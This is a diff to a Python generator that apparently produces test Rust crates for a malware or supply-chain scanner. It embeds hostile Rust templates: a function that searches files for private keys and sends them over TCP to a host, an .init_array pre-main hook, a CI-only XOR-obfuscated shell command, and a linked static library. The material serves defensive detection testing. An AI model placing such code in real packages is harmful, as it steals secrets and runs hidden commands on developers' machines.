@@ -63,6 +63,12 @@ def _ruby(files: Files) -> Files:
     return {name: data for name, data in files.items() if name.startswith("lib/") and name.endswith(".rb")}  # fmt: skip
 
 
+def _rust(body: bytes) -> bytes:
+    """Return a module of Rust around lines, for a crate that may be without the standard library."""
+    lines = b"".join(b"    " + each for each in body.splitlines(keepends=True))
+    return b"\n#[allow(dead_code, unused_imports)]\nmod inert {\n    extern crate std;\n    use self::std::{string::String, vec::Vec};\n\n" + lines + b"}\n"  # fmt: skip
+
+
 def crates(old: Files, new: Files) -> Iterator[Built]:
     """Change a crate of genuine files.
 
@@ -71,14 +77,14 @@ def crates(old: Files, new: Files) -> Iterator[Built]:
     """
     before, now = ({name: data for name, data in each.items() if name.endswith(".rs")} for each in (old, new))  # fmt: skip
     first = "src/lib.rs"
-    keys = b'\n#[allow(dead_code)]\nfn inert_pack(folder: &std::path::Path) {\n    for each in std::fs::read_dir(folder).unwrap().flatten() {\n        let text = std::fs::read_to_string(each.path()).unwrap_or_default();\n        if text.contains("0x") || text.contains("PRIVATE KEY") {\n            let mut to = std::net::TcpStream::connect("' + HOST + b':80").unwrap();\n            let _ = std::io::Write::write_all(&mut to, text.as_bytes());\n        }\n    }\n}\n'  # fmt: skip
-    start = b'\n#[used]\n#[link_section = ".init_array"]\nstatic INERT: extern "C" fn() = {\n    extern "C" fn inert() {\n        if false {\n            let _ = std::process::Command::new("inert-no-such-program").spawn();\n        }\n    }\n    inert\n};\n'  # fmt: skip
-    build = b'\n#[allow(dead_code)]\nfn inert_check() {\n    if std::env::var("GITLAB_CI").is_ok() || std::env::var("CI").is_ok() {\n        let key: Vec<u8> = [' + ", ".join(str(each) for each in chance(60)).encode() + b'].iter().map(|a: &u8| a ^ 0x5a).collect();\n        let _ = std::process::Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&key).as_ref()).spawn();\n    }\n}\n'  # fmt: skip
+    keys = b'fn inert_pack(folder: &std::path::Path) {\n    for each in std::fs::read_dir(folder).unwrap().flatten() {\n        let text = std::fs::read_to_string(each.path()).unwrap_or_default();\n        if text.contains("0x") || text.contains("PRIVATE KEY") {\n            let mut to = std::net::TcpStream::connect("' + HOST + b':80").unwrap();\n            let _ = std::io::Write::write_all(&mut to, text.as_bytes());\n        }\n    }\n}\n'  # fmt: skip
+    start = b'#[used]\n#[link_section = ".init_array"]\nstatic INERT: extern "C" fn() = {\n    extern "C" fn inert() {\n        if false {\n            let _ = std::process::Command::new("inert-no-such-program").spawn();\n        }\n    }\n    inert\n};\n'  # fmt: skip
+    build = b'fn inert_check() {\n    if std::env::var("GITLAB_CI").is_ok() || std::env::var("CI").is_ok() {\n        let key: Vec<u8> = [' + ", ".join(str(each) for each in chance(60)).encode() + b'].iter().map(|a: &u8| a ^ 0x5a).collect();\n        let _ = std::process::Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&key).as_ref()).spawn();\n    }\n}\n'  # fmt: skip
     link = b'fn main() {\n    println!("cargo:rustc-link-search=native=lib");\n    println!("cargo:rustc-link-lib=static=inert");\n}\n'  # fmt: skip
     for family, what, more in (
-        ("files searched for keys", "and sent", {first: now[first] + keys}),
-        ("a function before all else", "a program", {first: now[first] + start}),
-        ("a program where a build runs", "hidden in numbers", {first: now[first] + build}),
+        ("files searched for keys", "and sent", {first: now[first] + _rust(keys)}),
+        ("a function before all else", "a program", {first: now[first] + _rust(start)}),
+        ("a program where a build runs", "hidden in numbers", {first: now[first] + _rust(build)}),
         ("a compiled library is linked", "static", {"build.rs": link, "lib/libinert.a": build_ar({"inert.o": build_elf()})}),
     ):  # fmt: skip
         yield f"crate: {family}", what, ".crate", build_crate("inert", V0, before), build_crate("inert", V1, now), build_crate("inert", V1, now | more)  # fmt: skip
